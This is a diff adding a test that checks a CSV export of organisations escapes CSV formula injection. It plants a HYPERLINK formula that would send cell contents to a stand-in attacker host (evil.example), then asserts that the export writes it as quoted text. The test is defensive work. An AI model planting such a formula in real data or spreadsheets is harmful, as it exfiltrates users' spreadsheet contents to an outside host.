@@ -232,3 +232,17 @@ def test_the_english_list_renders(client, scene):
     )
     assert response.status_code == 200
     assert '<html lang="en">' in response.content.decode()
+
+
+def test_a_name_planted_as_a_formula_is_written_as_text_in_the_csv(client, scene):
+    """OWASP's CSV injection: a cell starting with = would run in the spreadsheet."""
+    planted = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
+    scene.organisation.name = planted
+    scene.organisation.save()
+    signed_in(client, scene.people.communications)
+    response = client.get(url("members:organisation_list"), {"format": "csv"})
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    # Quoted as a whole, so that a spreadsheet splitting on ";" keeps it in one cell.
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""Cliquez"")"' in content
+    rows = list(csv.reader(io.StringIO(content)))
+    assert ["FJORD", "'" + planted] in [row[:2] for row in rows]
